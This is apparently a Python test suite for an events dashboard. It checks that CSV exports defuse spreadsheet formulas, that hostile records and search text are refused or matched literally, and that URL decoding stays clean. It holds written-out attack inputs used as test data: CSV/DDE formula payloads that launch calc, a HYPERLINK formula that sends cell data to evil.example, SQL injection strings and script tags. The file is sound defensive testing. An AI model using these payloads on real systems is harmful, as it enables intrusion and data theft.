"""Hostile data, files and links, short of a browser: nothing executes, nothing is stored
half-checked, and every refusal names the row and the column.

Covers spreadsheet formulas in CSV exports (OWASP's list), hostile records through
``store.insert_records`` (the store path without the importer), hostile search text, and
property tests that throw arbitrary values at the record schema and the URL codec.
"""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard import cli, hotcopy, importer, store, urlstate
from dashboard.export import to_csv
from dashboard.filters import MAX_TEXT as URL_MAX_TEXT
from dashboard.filters import MAX_VALUES, Filters
from dashboard.query import EventQuery
from dashboard.schema import MAX_TEXT, TEXT_COLUMNS, RecordError, validate_record

#: OWASP's list of characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ARABIC = "هجوم على سجن غويران في الحسكة"
MID_CR = 'note\r=HYPERLINK("http://evil.example/","x")'
MID_LF = "line\n@SUM(1+1)*cmd|' /C calc'!A0"
#: Columns a spreadsheet may show as numbers; a leading minus there is a negative number.
NUMERIC = {"latitude", "longitude", "fatalities", "fatalities_low", "fatalities_high"}


def hostile_record(i: int, payload: str) -> dict:
    record = {
        "event_id": f"formula-{i}",
        "event_date": "2023-03-0" + str(1 + i % 9),
        "event_type": "statement",
        "actors": [payload, "ISIS"],
        "country": "MAR",
        "latitude": -0.5 - i % 10,  # south of the equator: a legitimate negative number
        "longitude": -7.98,
        "fatalities": 3,
        "sources": [{"publisher": payload, "url": "https://example.org/a", "language": "en"}],
    }
    for column in TEXT_COLUMNS:
        record[column] = payload
    record["title_ar"] = payload if i % 2 else "-" + ARABIC
    return record


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    return store.ensure_store(tmp_path_factory.mktemp("tpl") / "events.duckdb")


@pytest.fixture()
def store_copy(template, tmp_path):
    path = tmp_path / "events.duckdb"
    shutil.copyfile(template, path)
    return path


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory, template):
    path = tmp_path_factory.mktemp("formula") / "events.duckdb"
    shutil.copyfile(template, path)
    records = [hostile_record(i, p) for i, p in enumerate(PAYLOADS)]
    records.append({**hostile_record(99, "plain"), "title_ar": ARABIC, "title": "plain"})
    # a line break inside a cell must not start a new row whose first cell is a formula
    records.append({**hostile_record(98, "plain"), "title": MID_CR, "summary": MID_LF})
    assert store.insert_records(path, records) == []
    return path, {r["event_id"]: r for r in records}


def exported_rows(path, tmp_path, capsys, query="from=2023-03-01&to=2023-03-31") -> list[dict]:
    out = tmp_path / "out.csv"
    assert cli.main(["export", "--query", query, "-o", str(out), "--store", str(path)]) == 0
    capsys.readouterr()
    text = out.read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_csv_cell_can_start_a_formula(formula_store, tmp_path, capsys):
    path, records = formula_store
    rows = exported_rows(path, tmp_path, capsys)
    assert {r["event_id"] for r in rows} >= set(records)
    checked = 0
    for row in rows:
        assert None not in row and None not in row.values(), f"a cell broke its row: {row}"
        for column, cell in row.items():
            checked += 1
            if cell.startswith(FORMULA_STARTS):
                assert column in NUMERIC, (column, cell)
                assert math.isfinite(float(cell)), (column, cell)
    assert checked > len(PAYLOADS) * 20
    mid = next(r for r in rows if r["event_id"] == "formula-98")
    assert (mid["title"], mid["summary"]) == (MID_CR, MID_LF)  # one cell each, kept whole


def test_text_is_kept_exactly_behind_one_apostrophe(formula_store, tmp_path, capsys):
    path, records = formula_store
    rows = {r["event_id"]: r for r in exported_rows(path, tmp_path, capsys)}
    for i, payload in enumerate(PAYLOADS):
        row = rows[f"formula-{i}"]
        for column in TEXT_COLUMNS:
            if column in row and column != "title_ar":
                assert row[column] == "'" + payload, column
        assert row["actors"] == "'" + payload.strip() + "; ISIS"  # names are trimmed on entry
        assert row["sources"].startswith("[")  # JSON text: not a formula, kept whole
        assert json.loads(row["sources"])[0]["publisher"] == payload


def test_arabic_and_negative_numbers_are_untouched(formula_store, tmp_path, capsys):
    path, _ = formula_store
    rows = {r["event_id"]: r for r in exported_rows(path, tmp_path, capsys)}
    assert rows["formula-99"]["title_ar"] == ARABIC
    assert rows["formula-0"]["title_ar"] == "'-" + ARABIC  # a leading minus is still neutralised
    assert rows["formula-2"]["latitude"] == "-2.5"
    assert rows["formula-2"]["longitude"] == "-7.98"
    assert rows["formula-2"]["fatalities"] == "3"


def test_negative_numbers_stay_numbers_in_any_numeric_column():
    import pandas as pd

    frame = pd.DataFrame(
        {
            "event_id": ["a", "b"],
            "fatalities": pd.array([-4, 2], dtype="Int64"),
            "latitude": [-33.9, 12.5],
            "title": ["-4 killed, corrected", "نص عربي"],
        }
    )
    rows = list(csv.DictReader(io.StringIO(to_csv(frame).decode("utf-8-sig"), newline="")))
    assert [r["fatalities"] for r in rows] == ["-4", "2"]
    assert [r["latitude"] for r in rows] == ["-33.9", "12.5"]
    assert [r["title"] for r in rows] == ["'-4 killed, corrected", "نص عربي"]


def test_an_export_reimports_to_the_same_text(formula_store, tmp_path, capsys):
    path, records = formula_store
    out = tmp_path / "out.csv"
    query = "from=2023-03-01&to=2023-03-31"
    assert cli.main(["export", "--query", query, "-o", str(out), "--store", str(path)]) == 0
    capsys.readouterr()
    fresh = tmp_path / "fresh.duckdb"
    result = importer.import_file(out, fresh)
    assert result.accepted == len(records), [str(p) for p in result.problems]
    from dashboard import curation

    for event_id, record in records.items():
        back = curation.get_event(fresh, event_id)
        for column in ("title", "summary", "notes", "evidence", "title_ar"):
            assert back[column] == record[column], (event_id, column)


# --------------------------------------------------------------------------- hostile records


def good(i: int = 1, **changes) -> dict:
    return {
        "event_id": f"hostile-{i}",
        "event_date": "2023-01-02",
        "event_type": "statement",
        "title": "synthetic test row",
        "country": "SYR",
        "latitude": 35.0,
        "longitude": 38.0,
        "sources": [{"url": "https://example.org/x"}],
        **changes,
    }


MEGABYTE = "x" * 1_048_576

HOSTILE_ROWS = [
    ("latitude 999", {"latitude": 999}, "latitude", "outside -90..90"),
    ("longitude -999", {"longitude": -999}, "longitude", "outside -180..180"),
    ("latitude NaN beside a longitude", {"latitude": float("nan")}, "latitude", "together"),
    ("latitude infinite", {"latitude": float("inf")}, "latitude", "outside"),
    ("latitude text", {"latitude": "35N"}, "latitude", "not a number"),
    ("megabyte title", {"title": MEGABYTE}, "title", f"longer than {MAX_TEXT}"),
    ("megabyte summary", {"summary": MEGABYTE}, "summary", "longer than"),
    ("megabyte actor", {"actors": [MEGABYTE]}, "actors", "longer than"),
    ("megabyte source url", {"sources": [{"url": MEGABYTE}]}, "sources.url", "longer than"),
    ("megabyte related id", {"related": [MEGABYTE]}, "related", "longer than"),
    ("megabyte event type", {"event_type": MEGABYTE}, "event_type", "not one of"),
    ("thousands of actors", {"actors": ["a"] * 5000}, "actors", "more than"),
    ("control chars in id", {"event_id": "bad\x1b[31mid"}, "event_id", "not a valid id"),
    ("RTL override in id", {"event_id": "evil\u202egnp.exe"}, "event_id", "not a valid id"),
    ("NUL in country", {"country": "SY\x00R"}, "country", "ISO 3166"),
    ("impossible date", {"event_date": "2022-02-30"}, "event_date", "not a date"),
    ("year 9999", {"event_date": "9999-12-31"}, "event_date", "between 1900 and 2100"),
    ("year 1", {"event_date": "0001-01-01"}, "event_date", "between 1900 and 2100"),
    ("end before start", {"end_date": "2022-01-01"}, "end_date", "before"),
    ("fatalities beyond 32 bits", {"fatalities": 10**12}, "fatalities", "larger than"),
    ("negative fatalities", {"fatalities": -5}, "fatalities", "negative"),
    ("formula as type", {"event_type": "=cmd|' /C calc'!A0"}, "event_type", "not one of"),
    ("SQL as country", {"country": "SYR'; DROP TABLE events; --"}, "country", "ISO 3166"),
    ("source is text", {"sources": "https://example.org"}, "sources", "expected a list"),
    ("no source", {"sources": []}, "sources", "at least one"),
]


@pytest.mark.parametrize(
    ("change", "column", "words"), [c[1:] for c in HOSTILE_ROWS], ids=[c[0] for c in HOSTILE_ROWS]
)
def test_a_hostile_row_is_refused_naming_row_and_column(store_copy, change, column, words):
    before = store.info(store_copy)
    problems = store.insert_records(store_copy, [good(1), good(2, **change), good(3)])
    assert [(p.row, p.column) for p in problems] == [(2, column)]
    assert words in problems[0].message
    assert len(str(problems[0])) < 300  # a megabyte cell does not make a megabyte message
    after = store.info(store_copy)
    assert after["events"] == before["events"] + 2  # the good rows, and only they


def test_a_batch_of_only_bad_rows_leaves_the_store_untouched(store_copy):
    before = (store.info(store_copy), store.store_version(store_copy))
    rows = [good(i, **change) for i, (_, change, _, _) in enumerate(HOSTILE_ROWS)]
    problems = store.insert_records(store_copy, rows)
    assert [p.row for p in problems] == list(range(1, len(HOSTILE_ROWS) + 1))
    assert (store.info(store_copy), store.store_version(store_copy)) == before


def test_a_duplicate_id_in_the_batch_is_named_by_row(store_copy):
    before = store.info(store_copy)["events"]
    problems = store.insert_records(store_copy, [good(1), good(2), good(1, title="again")])
    assert [(p.row, p.column) for p in problems] == [(3, "event_id")]
    assert "also row 1" in problems[0].message
    assert store.info(store_copy)["events"] == before + 2


def test_an_id_already_stored_refuses_the_whole_batch(store_copy):
    before = (store.info(store_copy), store.store_version(store_copy))
    with pytest.raises(store.StoreError, match="ref-2022-05-11-marrakesh-meeting"):
        store.insert_records(
            store_copy, [good(1), good(2, event_id="ref-2022-05-11-marrakesh-meeting")]
        )
    assert (store.info(store_copy), store.store_version(store_copy)) == before


def test_text_with_controls_and_direction_marks_is_kept_as_characters(store_copy):
    from dashboard import curation

    title = "evil\u202egnp.exe \u200f<script>alert(1)</script> \x1b[2J ${x} {{y}}"
    assert store.insert_records(store_copy, [good(1, title=title, notes="a\x00b")]) == []
    stored = curation.get_event(store_copy, "hostile-1")
    assert stored["title"] == title  # stored as typed; shown as text everywhere
    assert stored["notes"] == "ab"  # NUL is the one character dropped


# --------------------------------------------------------------------------- hostile search


@pytest.fixture(scope="module")
def query(template):
    return EventQuery(hotcopy.load(template).engine())


@pytest.mark.parametrize(
    "text",
    ["%", "_", "%%", "' OR '1'='1", "'); DROP TABLE events; --", ".*", "[a-z]+", "\\", "*"],
)
def test_search_text_is_matched_literally(query, text):
    assert query.count(Filters(text=text)) == 0
    assert query.count(Filters(actors=(text,))) == 0
    assert query.count(Filters()) == 76  # and the table is still there


# --------------------------------------------------------------------------- property tests

#: Values a file or a JSON body could carry in any field.
anything = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=50)
    | st.sampled_from(
        ["", "2022-02-30", "9999-12-31", "SYR", "meeting", "day", MEGABYTE[: MAX_TEXT + 1]]
        + [2**31 - 1, 2**31, -(2**31), 10**12, 1e300, -0.0, "NaN", "1e5", " 7 "]
    )
    | st.dates(),
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
    ),
    max_leaves=8,
)
FIELDS = [
    "event_id",
    "event_date",
    "end_date",
    "date_precision",
    "event_type",
    "title",
    "title_ar",
    "actors",
    "country",
    "latitude",
    "longitude",
    "geo_precision",
    "fatalities",
    "fatalities_low",
    "sources",
    "related",
    "verification",
    "machine_coded",
]


@settings(max_examples=400)
@given(st.dictionaries(st.sampled_from(FIELDS), anything, min_size=1, max_size=2))
def test_any_record_is_stored_or_refused_with_a_column(overrides):
    """Whatever a reader hands over, validation refuses it naming a column, or what it
    accepts can be written to the store (the insert cannot fail on a value)."""
    raw = good(1, **overrides)
    try:
        record = validate_record(raw)
    except RecordError as exc:
        assert exc.column.split(".")[0] in {*FIELDS, "sources", "title"}
        assert len(str(exc)) < 300
        return
    table = store.rows_to_arrow([store.stored_row(record)])
    assert table.num_rows == 1
    assert 1900 <= record["event_date"].year <= 2100


numbers = (
    st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.sampled_from([2**31 - 1, 2**31, -(2**31), 10**12, 1e300, -0.0, "NaN", "1e5", " 7 "])
    | st.integers().map(str)
)


@settings(max_examples=300)
@given(
    st.sampled_from(["latitude", "fatalities", "fatalities_low", "fatalities_high"]),
    numbers,
)
def test_any_number_is_stored_or_refused_with_its_column(column, value):
    raw = good(1, **{column: value})
    if column == "latitude":
        raw["longitude"] = value
    try:
        record = validate_record(raw)
    except RecordError as exc:
        assert exc.column in (column, "longitude")
        return
    assert store.rows_to_arrow([store.stored_row(record)]).num_rows == 1


hostile_text = st.text(
    # everything but lone surrogates, which no decoded URL can hold
    alphabet=st.characters(exclude_categories=("Cs",)),
    max_size=300,
) | st.sampled_from(
    [
        "' OR '1'='1",
        "<script>alert(1)</script>",
        "\u202e",
        "%00",
        "\x00",
        "\ufffd",
        "a" * (URL_MAX_TEXT + 1),
        "2022-02-30",
        "99999-01-01",
        "NaN",
        "inf",
        "1e400",
    ]
)
keys = st.sampled_from([*urlstate.KEYS, "colour", "", "country[]", "__proto__", "q\x00"])


@settings(max_examples=400)
@given(st.lists(st.tuples(keys, hostile_text), max_size=80))
def test_any_link_decodes_to_a_clean_state(pairs):
    state, notices = urlstate.decode(pairs, is_country=lambda c: c in {"SYR", "IRQ"})
    f = state.filters
    assert len(f.countries) <= MAX_VALUES and len(f.actors) <= MAX_VALUES
    assert all(len(a) <= URL_MAX_TEXT for a in f.actors) and len(f.text) <= URL_MAX_TEXT
    for day in (f.date_from, f.date_to):
        assert day is None or date(1900, 1, 1) <= day <= date(2100, 12, 31)
    if f.date_from and f.date_to:
        assert f.date_from <= f.date_to
    # what the page writes back is a link that opens the same view without a word
    again, again_notices = urlstate.decode(urlstate.query_string(state), is_country=lambda c: True)
    assert again_notices == [] and again == state
    assert set(urlstate.encode(state)) <= set(urlstate.KEYS)
    # and no value reaches the SQL text: values are parameters only
    sql, params = f.where()
    assert "'" not in sql and '"' not in sql and "--" not in sql and ";" not in sql
    assert sql.count("?") == len(params)
    for notice in notices:
        assert len(str(notice)) < 200


@settings(max_examples=300)
@given(st.text(alphabet="%=&+;?#abcDEF0123456789\u00e9\u202e\x00 ", max_size=400))
def test_any_raw_query_string_decodes(query):
    state, _ = urlstate.decode(query)
    assert set(urlstate.encode(state)) <= set(urlstate.KEYS)
